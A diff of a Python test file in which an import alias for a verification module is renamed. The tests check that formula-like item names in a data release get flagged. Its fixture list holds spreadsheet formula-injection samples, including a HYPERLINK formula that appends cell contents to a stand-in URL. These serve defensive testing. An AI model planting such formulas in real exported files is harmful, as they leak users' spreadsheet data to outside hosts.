@@ -17,8 +17,7 @@ from recveil.ratings import Ratings, RatingScale
 from recveil.release.data_card import data_card, in_quotes
 from recveil.release.manifest import Manifest, to_bytes
 from recveil.runtime.errors import RecveilError
-from recveil.verification import other_files as item_formulas
-from recveil.verification import verify
+from recveil.verification import other_files, verify
 
 pytestmark = pytest.mark.usefixtures("synthetic")
 NAMES = ['=HYPERLINK("http://a.example/?"&A1)', "@sum", "-5", "+1.5", "\tb", "Heat", "a=b", "Up"]
@@ -152,7 +151,7 @@ def test_releases_of_before_say_nothing_on_the_card_but_in_the_verdict(out, monk
     manifest = told(out)
     del manifest["formulas"]
     sign(out, manifest)
-    monkeypatch.setattr(item_formulas, "FORMULAS_SINCE", manifest_number(manifest) + 1)
+    monkeypatch.setattr(other_files, "FORMULAS_SINCE", manifest_number(manifest) + 1)
     assert verify(out).holds
     assert any("as a formula does" in sentence for sentence in verify(out).not_covered)
 
@@ -161,7 +160,7 @@ def test_later_ones_must_tell(out, monkeypatch):
     manifest = told(out)
     del manifest["formulas"]
     sign(out, manifest)
-    monkeypatch.setattr(item_formulas, "FORMULAS_SINCE", manifest_number(manifest))
+    monkeypatch.setattr(other_files, "FORMULAS_SINCE", manifest_number(manifest))
     (violation,) = verify(out).violations
     assert violation.problem.startswith("tells of 0 ids of items that begin as a formula does")
 
